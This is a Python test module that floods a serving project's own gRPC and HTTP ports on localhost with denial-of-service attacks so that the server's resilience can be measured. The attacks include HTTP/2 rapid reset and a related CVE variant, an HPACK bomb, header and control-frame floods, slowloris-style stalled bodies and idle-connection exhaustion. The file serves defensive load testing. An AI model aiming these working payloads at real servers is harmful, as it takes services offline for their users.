"""Attacks on a server's two ports from a process of their own, so that its callers are measured alone.

    python -m tests.network_attacks KIND GRPC_PORT HTTP_PORT SECONDS [SOURCE …]
"""

from __future__ import annotations

import contextlib
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

from tests.integration.serving.http2_by_hand import (
    DATA,
    HEADERS,
    PREFACE,
    RESET,
    SETTINGS,
    field,
    frame,
    headers,
    message,
    settings,
)

PRIORITY, PING, WINDOW_UPDATE, CONTINUATION = 2, 6, 8, 9
CLASSIFY, STREAM = "/voc_cls.v1.Classifier/Classify", "/voc_cls.v1.Classifier/ClassifyStream"
WATCH = "/grpc.health.v1.Health/Watch"
MEBIBYTE = 2**20
BODY = 60 * MEBIBYTE
FLOODING, STALLED, IDLE = 4, 50, 1_000
"""Connections of a flood; bodies that stop before their end; idle connections or streams."""


def resets(stream: int) -> bytes:
    """A call that is given up at once (CVE-2023-44487)."""
    return headers(CLASSIFY, stream) + frame(RESET, 0, stream, struct.pack(">I", 8))


def bad_calls(stream: int) -> bytes:
    """A call that the server itself must reset, as it sends more than its window (CVE-2025-8671)."""
    return headers(CLASSIFY, stream) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))


def half_calls(stream: int) -> bytes:
    """A call whose message never comes."""
    return headers(CLASSIFY, stream)


def packed_fields(stream: int) -> bytes:
    """One long field in the table, named 3,000 times by an index of one byte (HPACK bomb)."""
    block = headers(CLASSIFY, 1)[9:] + b"\x40" + field("x-a", "a" * 3_000) + b"\xbe" * 3_000
    return frame(HEADERS, 4, stream, block[:16_000])


def fields(stream: int) -> bytes:
    """Thousands of header fields."""
    block = headers(CLASSIFY, 1)[9:] + b"".join(b"\0" + field(f"x-{number}", "a") for number in range(1_500))
    return frame(HEADERS, 4, stream, block[:16_000])


FRAMES: dict[str, bytes] = {
    "settings": frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)),
    "pings": frame(PING, 0, 0, b"12345678"),
    "window updates": frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
    "priorities": frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1)),
    "empty frames": frame(DATA, 0, 1),
    "unknown frames": frame(99, 0, 0, b"x" * 100),
    "continuations": frame(CONTINUATION, 0, 1, b"\0" + field("x-a", "a" * 100)),
}
"""What a flood repeats, on a connection that has begun a call."""
CALLS: dict[str, Callable[[int], bytes]] = {
    "rapid resets": resets, "bad calls": bad_calls, "half calls": half_calls, "many fields": fields,
    "packed fields": packed_fields}
"""What a flood does with one stream after the other."""


def flood(address: tuple[str, int], end: float, kind: str, source: str) -> None:
    """Sends frames as fast as the server takes them, on new connections when it closes one."""
    while time.monotonic() < end:
        with contextlib.suppress(OSError), socket.create_connection(address, 5, (source, 0)) as connection:
            begun = frame(HEADERS, 0, 1, headers(CLASSIFY)[9:]) if kind == "continuations" else headers(CLASSIFY)
            connection.sendall(PREFACE + settings() + (begun if kind in FRAMES else b""))
            block, stream = FRAMES.get(kind, b"") * 500, 1
            threading.Thread(target=_drain, args=(connection,), daemon=True).start()
            while time.monotonic() < end:
                if kind in CALLS:
                    block = b"".join(CALLS[kind](stream + 2 * number) for number in range(50))
                    stream += 100
                connection.sendall(block)


def _drain(connection: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while connection.recv(65536):
            pass


class Body:
    """A message over gRPC, sent as far as the server's windows let it and no further than told."""

    def __init__(self, address: tuple[str, int], method: str, source: str, size: int = BODY) -> None:
        self.connection = socket.create_connection(address, 30, (source, 0))
        self.connection.sendall(PREFACE + settings() + headers(method))
        self.sent, self._rest = 0, b"\0" + struct.pack(">I", size + 99)
        self._windows, self._initial, self._received = {0: 65_535, 1: 65_535}, 65_535, b""

    def send(self, size: int) -> bool:
        """Sends some bytes; False if the server has ended the call."""
        with contextlib.suppress(OSError):
            while size > 0:
                room = min(*self._windows.values(), 16_384, size)
                if room <= 0 or self.sent % MEBIBYTE < 16_384:
                    self.connection.settimeout(30 if room <= 0 else 0.001)
                    with contextlib.suppress(TimeoutError):
                        self._received += self.connection.recv(65536) or self._closed()
                    if not self._read_frames():
                        return False
                    if room <= 0:
                        continue
                self.connection.settimeout(30)
                self.connection.sendall(frame(DATA, 0, 1, (self._rest + b"x" * room)[:room]))
                self._rest = b""
                self.sent, size = self.sent + room, size - room
                for stream in self._windows:
                    self._windows[stream] -= room
            return True
        return False

    @staticmethod
    def _closed() -> bytes:
        raise ConnectionError

    def _read_frames(self) -> bool:
        while len(self._received) >= 9 and len(self._received) >= 9 + (size := int.from_bytes(self._received[:3])):
            kind, flags, stream = struct.unpack(">BBI", self._received[3:9])
            content, self._received = self._received[9:9 + size], self._received[9 + size:]
            if kind in (HEADERS, RESET):
                return False
            if kind == WINDOW_UPDATE:
                self._windows[stream] += int.from_bytes(content)
            elif kind == PING and not flags:
                self.connection.sendall(frame(PING, 1, 0, content))
            elif kind == SETTINGS and not flags:
                for number, value in struct.iter_unpack(">HI", content):
                    if number == 4:
                        self._windows[1] += value - self._initial
                        self._initial = value
                self.connection.sendall(frame(SETTINGS, 1, 0))
        return True


def stalled_messages(address: tuple[str, int], end: float, method: str, source: str) -> None:
    """All of a large message but its end, and again when the server has had enough."""
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            body = Body(address, method, source)
            with body.connection:
                body.send(BODY)
                body.connection.settimeout(max(0.1, end - time.monotonic()))
                _drain(body.connection)


def slow_messages(address: tuple[str, int], end: float, method: str, source: str) -> None:
    """A large message, 100 bytes at a time."""
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            body = Body(address, method, source)
            with body.connection:
                while time.monotonic() < end and body.send(100):
                    time.sleep(0.1)


def stalled_bodies(address: tuple[str, int], end: float, pieces: int, source: str) -> None:
    """All of a large body over HTTP but its end, at once or slowly."""
    while time.monotonic() < end:
        with contextlib.suppress(OSError), socket.create_connection(address, 30, (source, 0)) as connection:
            connection.sendall(b"POST /v1/models/tiny:predict HTTP/1.1\r\nHost: a\r\n"
                               b"Content-Length: %d\r\n\r\n{\"a\": \"" % (BODY + 99))
            threading.Thread(target=_drain, args=(connection,), daemon=True).start()
            for _ in range(BODY // pieces):
                connection.sendall(b"x" * pieces)
                if pieces < MEBIBYTE:
                    time.sleep(0.1)
                if time.monotonic() > end:
                    return
            time.sleep(max(0.0, min(5, end - time.monotonic())))


def idle(address: tuple[str, int], end: float, begin: bytes, source: str) -> None:
    """A connection that begins and says no more."""
    while time.monotonic() < end:
        with contextlib.suppress(OSError), socket.create_connection(address, 30, (source, 0)) as connection:
            connection.sendall(begin)
            connection.settimeout(max(0.1, end - time.monotonic()))
            _drain(connection)
            time.sleep(1)


KEEP_ALIVE = b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n"
KINDS: dict[str, tuple[int, bool, Callable[[tuple[str, int], float, str], None]]] = {
    **{kind: (FLOODING, True, lambda address, end, source, kind=kind: flood(address, end, kind, source))
       for kind in (*FRAMES, *CALLS)},
    "stalled messages": (STALLED, True, lambda *args: stalled_messages(args[0], args[1], CLASSIFY, args[2])),
    "stalled streams": (STALLED, True, lambda *args: stalled_messages(args[0], args[1], STREAM, args[2])),
    "slow messages": (STALLED, True, lambda *args: slow_messages(args[0], args[1], CLASSIFY, args[2])),
    "stalled bodies": (STALLED, False, lambda *args: stalled_bodies(args[0], args[1], MEBIBYTE, args[2])),
    "slow bodies": (STALLED, False, lambda *args: stalled_bodies(args[0], args[1], 100, args[2])),
    "idle streams": (IDLE, True, lambda *args: idle(args[0], args[1], PREFACE + settings() + headers(STREAM), args[2])),
    "idle calls": (IDLE, True, lambda *args: idle(args[0], args[1], PREFACE + settings() + headers(CLASSIFY), args[2])),
    "watchers": (IDLE, True, lambda *args: idle(
        args[0], args[1], PREFACE + settings() + headers(WATCH) + message(b""), args[2])),
    "idle connections": (IDLE, False, lambda *args: idle(args[0], args[1], b"", args[2])),
    "kept connections": (IDLE, False, lambda *args: idle(args[0], args[1], KEEP_ALIVE, args[2])),
}
"""Kind of attack → how many at a time, whether on the gRPC port, and what one of them does until its end."""


def attack(kind: str, grpc_port: int, http_port: int, seconds: float, sources: list[str]) -> None:
    """Attacks for some seconds, from one address or several."""
    number, on_grpc, work = KINDS[kind]
    address, end = ("127.0.0.1", grpc_port if on_grpc else http_port), time.monotonic() + seconds
    threads = [threading.Thread(target=work, args=(address, end, sources[one % len(sources)]), daemon=True)
               for one in range(number)]
    for thread in threads:
        thread.start()
    time.sleep(seconds)


@contextlib.contextmanager
def attacked(kind: str, grpc_port: int, http_port: int, seconds: float, *sources: str) -> Iterator[None]:
    """An attack in another process, at low priority: a real one would not use the server's own processors."""
    program = ["nice", "-n", "19", sys.executable, "-m", "tests.network_attacks", kind, str(grpc_port), str(http_port),
               str(seconds), *sources]
    with subprocess.Popen(program, cwd=Path(__file__).parents[1]) as process:
        try:
            yield
        finally:
            process.kill()


if __name__ == "__main__":
    attack(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), sys.argv[5:] or ["127.0.0.1"])
